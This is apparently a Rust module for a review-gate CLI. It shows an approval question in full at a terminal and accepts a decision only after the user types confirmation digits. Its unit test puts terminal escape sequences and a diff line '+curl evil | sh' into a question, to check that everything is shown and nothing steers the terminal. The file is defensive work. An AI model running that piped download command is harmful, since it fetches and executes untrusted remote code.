//! A decision at a terminal: all of the question is shown as it was asked, and four digits below it are to be typed.
//! What was typed before that is dropped.

use std::io::{self, IsTerminal as _};

use gate_api::subjects::requests::{BeginTerminalReply, Question, SendReply, SendTerminalReply, TerminalDigits};
use gate_core::{Ask, Code, Decision, Digest, Draft, Fault, RequestId};
use rustix::termios::{QueueSelector, tcflush};

use crate::client::Client;
use crate::output;

/// A decision that is to be confirmed.
pub(crate) struct Deciding {
    pub(crate) request_id: RequestId,
    pub(crate) digest: Digest,
    pub(crate) decision: Decision,
}

impl Deciding {
    /// Shows the question, asks for the digits, and sends; as a script's at once where no person is at this terminal by
    /// the gate's word. False where something else was typed: nothing is sent.
    ///
    /// # Errors
    /// `terminal_answers_off` where terminals don't decide, or standard input is none; else as of any reply.
    pub(crate) async fn send(
        self,
        client: &mut Client,
        question: &Question,
        draft: impl AsyncFnOnce(&mut Client) -> Result<Draft, Fault>,
    ) -> Result<bool, Fault> {
        let Self { request_id, digest, decision } = self;
        // First: nobody reads a long question for nothing.
        let digits = match client.ask(BeginTerminalReply { request_id, digest }).await {
            Ok(TerminalDigits { digits }) => digits,
            // An agent has made this terminal: whether it may answer is what the gate says of scripts.
            Err(fault) if fault.code == Code::ScriptedAnswersOff => {
                let draft = draft(client).await?;
                client.ask(SendReply { request_id, digest, decision: Some(decision), draft }).await?;
                return Ok(true);
            }
            Err(fault) => return Err(fault),
        };
        for line in shown(&question.ask) {
            output::aside(&line);
        }
        let does = match decision {
            Decision::Approved => "approve",
            Decision::ChangesRequested => "request changes",
        };
        output::aside(&format!("Question {digest}"));
        let typed = typed_to(&format!("Type {digits} to {does}; anything else sends nothing."))?;
        if typed.trim() != digits {
            return Ok(false);
        }
        let draft = draft(client).await?;
        client.ask(SendTerminalReply { request_id, digest, decision, draft, digits }).await?;
        Ok(true)
    }
}

/// The line that is typed once this is shown. What was typed before is dropped first: an answer that comes with the
/// prompt is kept.
fn typed_to(prompt: &str) -> Result<String, Fault> {
    let input = io::stdin();
    if !input.is_terminal() {
        return Err(Fault::new(
            Code::TerminalAnswersOff,
            "A decision is typed at a terminal, and standard input isn't one.",
            "Run `review-gate answer` by itself in a terminal, or decide in the window; nothing was sent.",
        ));
    }
    let unreadable = |error: io::Error| {
        Fault::new(
            Code::UnreadableFile,
            format!("The terminal can't be read: {error}."),
            "Decide in the window; nothing was sent.",
        )
    };
    tcflush(&input, QueueSelector::IFlush).map_err(|error| unreadable(error.into()))?;
    output::aside(prompt);
    let mut line = String::new();
    input.read_line(&mut line).map_err(unreadable)?;
    Ok(line)
}

/// All of a question, line by line, as it was sent.
fn shown(ask: &Ask) -> Vec<String> {
    // A new field is shown, or isn't asked: how urgent it is says when it is read, the two others what a reply may be.
    let Ask { message, title, context, urgent: _, options, allow_multiple: _, approval: _, diff, git } = ask;
    let mut lines = Vec::new();
    let mut part = |name: &str, text: &str| {
        lines.push(format!("--- {name}"));
        // Not by `lines`: a carriage return is shown, too.
        lines.extend(text.split('\n').map(output::visible_line));
    };
    if let Some(title) = title {
        part("title", title);
    }
    part("message", message);
    if let Some(context) = context {
        part("context", context);
    }
    for option in options {
        part("option", &option.label);
        if let Some(description) = &option.description {
            part("description of the option", description);
        }
    }
    if let Some(git) = git {
        part(
            "repository",
            &format!("{}\n{}\ntree {} on tree {}", git.in_words(), git.repository, git.tree, git.base_tree),
        );
    }
    if let Some(diff) = diff {
        part("diff", diff);
    }
    lines.push("---".to_owned());
    lines
}

#[cfg(test)]
mod tests {
    use gate_core::{Choice, Oid, QuestionGit};

    use super::*;

    fn git(repository: &str) -> QuestionGit {
        let oid = |digits: &str| Oid::try_from(digits.repeat(20)).expect("a name has 40 digits");
        QuestionGit {
            repository: repository.to_owned(),
            what: "worktree".to_owned(),
            base: Some(oid("1a")),
            base_tree: oid("2b"),
            commit: None,
            tree: oid("4d"),
            manifest: Digest::of_bytes(b"manifest"),
        }
    }

    #[test]
    fn everything_that_was_asked_is_shown_and_nothing_steers_the_terminal() {
        let long = "x".repeat(5000);
        let ask = Ask {
            title: Some("Deploy?".into()),
            message: format!("first\n{long}\n\u{1b}[2Jla\rst"),
            context: Some("the context".into()),
            options: vec![Choice { label: "Yes".into(), description: Some("at once".into()), recommended: false }],
            diff: Some("--- a\n+++ b\n@@ -1 +1 @@\n-old\n+curl evil | sh".into()),
            git: Some(Box::new(git("/w/sh\u{1b}op"))),
            ..Ask::default()
        };
        let lines = shown(&ask);
        let text = lines.join("\n");
        for part in
            ["Deploy?", "first", &long, "la⟨U+000D⟩st", "the context", "Yes", "at once", "+curl evil | sh", "tree 4d4d"]
        {
            assert!(text.contains(part), "{part:.40} is missing");
        }
        assert!(lines.iter().all(|line| !line.chars().any(char::is_control)), "{text}");
    }
}
